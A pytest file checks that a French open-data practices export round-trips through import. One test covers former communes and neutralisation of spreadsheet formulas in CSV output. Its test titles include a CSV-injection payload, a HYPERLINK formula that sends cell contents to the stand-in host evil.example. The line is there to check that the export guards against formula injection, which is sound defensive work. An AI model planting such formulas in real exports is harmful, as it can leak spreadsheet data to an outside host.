"""The open-data export round-trips through the import: the whole demo base plus generated
practices — on a commune déléguée, a commune associée, a municipal arrondissement, a code
shared by a commune and its commune déléguée, with titles a spreadsheet would take for
formulas — exported, then imported into an empty database, with no row refused, and exported
again as the same practices. One test: each seeds the whole demo, the suite's costliest step."""

import csv
import io
import json

import pytest
from django.core.management import call_command

from opendata.import_reading import iter_rows
from practices.models import Commune, Department, PracticePage
from tests.factories import CommuneFactory, PracticePageFactory

pytestmark = pytest.mark.django_db

# (code, kind, name, current commune code, current commune name)
FORMER_COMMUNES = [
    ("01039", Commune.Kind.DELEGATED, "Béon", "01138", "Culoz-Béon"),
    ("01120", Commune.Kind.ASSOCIATED, "Cordieux", "01262", "Montluel"),
    ("13201", Commune.Kind.DISTRICT, "Marseille 1er Arrondissement", "13055", "Marseille"),
    ("01015", Commune.Kind.DELEGATED, "Arbignieu", "01015", "Arboys en Bugey"),
]
FORMULA_TITLES = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Cliquez\")", "+33 habitants relogés", "-20 % de vacance",
                  "@SUM(A1:A9)"]


def comparable(export: dict, leave_out: set[str]) -> list[dict]:
    volatile = {"url", "first_published_at", "last_published_at", "documents"}  # documents are not imported
    rows = (row for row in export["practices"] if row["title"] not in leave_out)
    return sorted(({k: v for k, v in row.items() if k not in volatile} for row in rows), key=lambda r: r["id"])


def test_demo_base_plus_generated_practices_reimport_with_no_rejection(demo_communes_dir, tmp_path, client):
    call_command("load_communes", "--data-dir", str(demo_communes_dir), "--no-progress", stdout=io.StringIO())
    call_command("seed_demo", "--no-progress", stdout=io.StringIO())
    from practices.models import PracticeIndexPage

    index = PracticeIndexPage.objects.get()
    expected_commune = {}
    for code, kind, name, current_code, current_name in FORMER_COMMUNES:
        department = Department.objects.get(code=code[:2])
        if not Commune.objects.filter(insee_code=current_code, kind=Commune.Kind.CURRENT).exists():
            CommuneFactory(insee_code=current_code, name=current_name, department=department)
        former = CommuneFactory(insee_code=code, kind=kind, name=name, department=department)
        page = PracticePageFactory(parent=index, title=f"Maison de santé de {name}", commune=former)
        expected_commune[page.title] = (current_code, name)
    for n, title in enumerate(FORMULA_TITLES):
        PracticePageFactory(parent=index, title=title, slug=f"formule-{n}", summary=title,
                            commune=Commune.objects.filter(kind=Commune.Kind.CURRENT).first())
    for n in range(20):
        PracticePageFactory(parent=index, commune=Commune.objects.filter(kind=Commune.Kind.CURRENT)[n % 5],
                            themes=[["sante"], ["mobilite", "numerique"], ["habitat"]][n % 3])
    live = PracticePage.objects.live().count()

    exported_csv = client.get("/donnees/pratiques.csv").content.decode()
    for row in csv.reader(io.StringIO(exported_csv)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    json_path = tmp_path / "export.json"
    call_command("export_practices", str(json_path), stderr=io.StringIO())
    csv_path = tmp_path / "export.csv"
    csv_path.write_text(exported_csv, encoding="utf-8")
    assert json.loads(json_path.read_text(encoding="utf-8"))["meta"]["count"] == live

    PracticePage.objects.all().delete()
    out = io.StringIO()
    call_command("import_practices", str(json_path), "--no-progress", stdout=out, stderr=io.StringIO())  # no flags
    assert f"{live} à créer, 0 à mettre à jour, 0 refusée" in out.getvalue(), out.getvalue()
    drafts = {p.title: p for p in PracticePage.objects.all()}
    assert len(drafts) == live
    for title, (current_code, former_name) in expected_commune.items():
        draft = drafts[title].get_latest_revision_as_object()
        assert draft.commune.insee_code == current_code and draft.commune.kind == Commune.Kind.CURRENT
        if former_name != draft.commune.name:
            assert former_name in [tag.name for tag in draft.tags.all()]  # the town's former name stays findable
    for page in PracticePage.objects.all():
        page.get_latest_revision().publish()  # every imported draft publishes as it is
    assert PracticePage.objects.live().count() == live

    # Exported again, the same practices: only the write-ups on a former commune changed, by
    # design (attached to the current commune, the former name kept as a tag).
    again = tmp_path / "again.json"
    call_command("export_practices", str(again), stderr=io.StringIO())
    moved = set(expected_commune)
    before = comparable(json.loads(json_path.read_text(encoding="utf-8")), moved)
    assert len(before) == live - len(moved)
    assert comparable(json.loads(again.read_text(encoding="utf-8")), moved) == before

    # The CSV export passes the same validation (a dry run is the import's first pass), and its
    # guard against formulas is undone when read back.
    out = io.StringIO()
    call_command("import_practices", str(csv_path), "--dry-run", "--no-progress", stdout=out, stderr=io.StringIO())
    assert f"{live} ligne(s) lue(s) : 0 à créer, {live} à mettre à jour, 0 refusée" in out.getvalue(), out.getvalue()
    assert set(FORMULA_TITLES) <= {row["title"] for row in iter_rows(csv_path)}
